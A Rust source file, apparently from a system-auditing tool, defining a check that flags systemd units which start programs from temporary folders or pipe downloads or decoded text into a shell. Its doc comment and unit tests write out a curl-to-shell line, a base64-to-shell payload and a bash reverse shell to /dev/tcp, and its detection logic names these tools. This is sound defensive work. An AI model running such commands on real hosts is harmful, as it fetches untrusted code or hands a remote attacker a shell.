//! Units that start something from a place for temporary files, or from the network.

use crate::check::{Cx, Hit, Skip, check};
use crate::facts::{trust, units};
use casemate_schema::Severity;

check! {
    /// # What it checks
    /// No unit starts a program or script below `/tmp`, `/var/tmp`, `/dev/shm` or the like, and none has a
    /// command that pipes a download or decoded text into a shell, or opens a connection from one
    /// (`/dev/tcp/`). Disabled units count, masked ones do not.
    ///
    /// # Why it matters
    /// Software of a distribution never does that. A unit that does is how malware survives a reboot,
    /// or an installation that anybody can take over by being first to create the file.
    ///
    /// # Example
    /// `ExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'`
    ///
    /// # Instead
    /// Find out who made the unit (`stat`, the journal). If nobody did: keep a copy, `systemctl disable
    /// --now UNIT`, and treat the host as taken over. Otherwise install the program below `/usr/local`.
    id: "unit-suspicious-command",
    surface: Units,
    title: "Unit starts something from a temporary place or the network",
    severity: High,
    references: [Cwe "CWE-494", Attack "T1543.002", Attack "T1059.004", Man "systemd.service(5)"],
}

fn run(cx: &mut Cx<'_>) -> Result<(), Skip> {
    let all = cx.facts.units()?;
    cx.limits(&all.limits);
    for entry in all.list.iter().filter(|entry| !entry.unit.masked) {
        for (command, setting) in entry.commands() {
            let programs = units::programs(&command);
            let temporary = programs
                .iter()
                .find(|path| trust::in_temporary_folder(path));
            let reason = match temporary {
                Some(path) => format!(
                    "starts `{}` from a place for temporary files",
                    path.display()
                ),
                None => match suspicious(&setting.value) {
                    Some(reason) => reason.to_owned(),
                    None => continue,
                },
            };
            let name = entry.unit.name.as_str();
            let severity = if entry.started {
                Severity::High
            } else {
                Severity::Medium
            };
            let hit = Hit::new(format!("`{name}` {reason}"))
                .path(&setting.file)
                .line(u64::from(setting.line))
                .subject(name)
                .key(&setting.value)
                .severity(severity)
                .evidence_at(
                    &setting.key,
                    &setting.value,
                    &setting.file,
                    Some(u64::from(setting.line)),
                )
                .evidence("started", if entry.started { "yes" } else { "no" });
            cx.hit(hit);
        }
    }
    Ok(())
}

/// What is suspicious in a command line, in words.
fn suspicious(line: &str) -> Option<&'static str> {
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
        return Some("opens a connection from a shell");
    }
    let shell = |text: &str| {
        let first = text.trim_start().trim_start_matches("sudo ");
        let word = first
            .split([' ', '\t', '\'', '"', ';'])
            .next()
            .unwrap_or_default();
        let name = word.rsplit('/').next().unwrap_or_default();
        matches!(
            name,
            "sh" | "bash" | "dash" | "zsh" | "python" | "python3" | "perl"
        )
    };
    let (source, target) = line.rsplit_once('|')?;
    let words: Vec<&str> = source
        .split([' ', '\t', '\'', '"', '|', '/', '$', '('])
        .collect();
    let has = |name: &str| words.contains(&name);
    match () {
        () if !shell(target) => None,
        () if has("curl") || has("wget") => Some("pipes a download into a shell"),
        () if has("base64") || has("xxd") => Some("pipes decoded text into a shell"),
        () => None,
    }
}

#[cfg(test)]
mod tests {
    use super::suspicious;

    #[test]
    fn pipes_into_shells() {
        assert!(suspicious("/bin/sh -c 'curl -s http://x/ | sudo bash'").is_some());
        assert!(suspicious("/bin/sh -c 'echo aGk= | base64 -d | /bin/sh -'").is_some());
        assert!(suspicious("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/1 0>&1'").is_some());
        assert_eq!(suspicious("/bin/sh -c 'curl http://x/ | grep sh'"), None);
        assert_eq!(suspicious("/bin/sh -c 'cat /etc/x | sh'"), None);
        assert_eq!(suspicious("/usr/bin/curl http://x/"), None);
    }
}
